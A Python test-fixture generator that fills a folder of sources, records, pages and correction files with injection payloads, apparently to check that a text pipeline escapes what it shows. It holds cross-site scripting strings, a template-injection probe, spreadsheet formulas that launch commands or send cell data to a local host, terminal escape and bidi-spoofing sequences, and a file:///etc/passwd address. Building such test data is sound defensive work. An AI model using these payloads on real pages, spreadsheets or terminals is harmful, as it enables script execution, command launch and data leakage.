"""What an attacker would write where text is shown: on pages, in spreadsheets, on a terminal. And a folder full of it.

Each payload is put into every place that text can come from: titles, texts, publishers, addresses, names of firms, file
names, corrections, the vocabulary, the furniture and the metadata of pages.
"""

import csv
import json
from pathlib import Path

RUN = "window.ran=1"
MARKUP = {
    "script": f"<script>{RUN}</script>",
    "image": f"<img src=x onerror={RUN}>",
    "svg": f"<svg onload={RUN}>",
    "attribute in double quotes": f'" onmouseover="{RUN}" x="',
    "attribute in single quotes": f"' autofocus onfocus='{RUN}",
    "end of title": f"</title><script>{RUN}</script>",
    "end of style": f"</style><script>{RUN}</script>",
    "end of script": f"</script><script>{RUN}</script>",
    "end of comment": f"--><script>{RUN}</script><!--",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "link": f"<a href=javascript:{RUN}>mills</a>",
    "refresh": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "base": "<base href=javascript:/a/-alert(1)//////>",
    "object": f"<object data=javascript:{RUN}></object>",
    "embed": "<embed src=data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=>",
    "details": f"<details open ontoggle={RUN}>",
    "form": f"<form action=javascript:{RUN}><button autofocus>ok</button></form>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}${7*7}{% endfor %}",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "escapes": f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "full width": f"＜script＞{RUN}＜/script＞",
    "style": "<style>@import url(http://127.0.0.1:9/x.css)</style>",
}
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"mills")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "import": '=IMPORTXML(CONCAT("http://127.0.0.1:9/?",A1),"//a")',
    "quoted": '"=1+1"\n=1+1',
    "separated": "mills,=1+1;=1+1",
}
STEERING = {
    "colour": "\x1b[31mred",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://127.0.0.1:9/\x1b\\mills\x1b]8;;\x1b\\",
    "one byte": "\x9b31m",
    "back": "mills\b\b\b\b\bowned",
    "return": "mills\rowned",
    "override": "\u202egpj.exe",
    "isolate": "\u2066mills\u2069\u2067owned",
    "embedding": "\u202bmills\u202c\u200f",
}
ADDRESSES = (
    f"javascript:{RUN}",
    f" JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    f'https://news.example/"onmouseover="{RUN}',
    f"https://news.example/<script>{RUN}</script>",
    "//news.example/x",
    f"https://news.example/#';{RUN}//",
)
TEXT = (
    "The town of Datang in Zhejiang makes socks. Its {0} Knitting Co., Ltd. employs {number} people, said {0}. In 2022 "
    "the town's output value was {number} million yuan, and {0} kites sold for {number} yuan each. {0}\n"
    "Click: {number} {0}\n"
)


def write_folder(raw: Path) -> None:
    """Fill a raw folder with every payload in every place."""
    raw.mkdir(parents=True)
    shown = [*MARKUP.values(), *FORMULAS.values()]
    with (raw / "sources.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["file", "title", "source_url", "publisher", "published"])
        for number, payload in enumerate(shown):
            name = f"{_as_name(payload)}-{number}.txt"
            (raw / name).parent.mkdir(parents=True, exist_ok=True)
            (raw / name).write_text(TEXT.format(payload, number=f"{number + 101},000"), encoding="utf-8")
            address = ADDRESSES[number % len(ADDRESSES)]
            rows.writerow([name, payload, address, payload, f"2023-08-{number % 28 + 1:02}"])
    with (raw / "records.jsonl").open("w", encoding="utf-8") as file:
        for number, payload in enumerate([*shown, *STEERING.values()]):
            text = TEXT.format("A", number=f"{number + 201},000")
            record = {"text": text, "title": payload, "publisher": payload, "url": ADDRESSES[number % len(ADDRESSES)]}
            file.write(json.dumps(record) + "\n")
    menus = "".join(f"<li>{payload}</li>" for payload in shown)
    metadata = "".join(f'<meta name="dc.title" content="{_quoted(payload)}">' for payload in shown)
    text = TEXT.format(_quoted(MARKUP["script"]), number="909,000") * 3
    page = f"<html><head>{metadata}</head><body><p>{text}</p><ul>{_quoted(menus)}</ul></body></html>"
    (raw / "page.html").write_text(page, encoding="utf-8")
    _write_words(raw / "vocabulary")
    _write_corrections(raw, [*shown, *STEERING.values()])


def _as_name(payload: str) -> str:
    """Return a payload as a file's name, with folders where it holds a slash."""
    return "/".join(part.strip(" ._")[:60] or "x" for part in payload.replace("\n", " ").split("/"))


def _quoted(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def _write_words(folder: Path) -> None:
    folder.mkdir()
    image = MARKUP["image"]
    (folder / "products.toml").write_text(f'[kites]\ntrade = "toys"\nen = ["{image} kites", "kites"]\nzh = ["风筝"]\n')
    (folder / "places.toml").write_text(f'[aliases]\n"{image}" = "cn-370829"\n"=1+1 Town" = "cn-370829"\n')


def _write_corrections(raw: Path, payloads: list[str]) -> None:
    entries = []
    for number, payload in enumerate(payloads):
        words = json.dumps(payload)  # a TOML string in double quotes is written as in JSON, but for DEL and half pairs
        entry = f'action = "set_date"\nsource = "records.jsonl#{number + 1}"\npublished_on = 2023-01-02\n'
        entries.append(f"[[correction]]\n{entry}reason = {words}\nauthor = {words}\n")
        entry = f'action = "set"\nsource = "nowhere {number}"\nquote = {words}\nset = {{ subject = {words} }}\n'
        entries.append(f"[[correction]]\n{entry}reason = {words}\nauthor = {words}\n")
    name = f"{_as_name(payloads[0])}-0.txt"
    entry = f'action = "set"\nsource = {json.dumps(name)}\nquote = "101,000 people"\n'
    change = f"set = {{ subject = {json.dumps(MARKUP['image'] + STEERING['colour'] + STEERING['override'])} }}\n"
    entries.append(f"[[correction]]\n{entry}{change}reason = {json.dumps(MARKUP['svg'])}\n")
    (raw / "corrections.toml").write_text("\n".join(entries), encoding="utf-8")
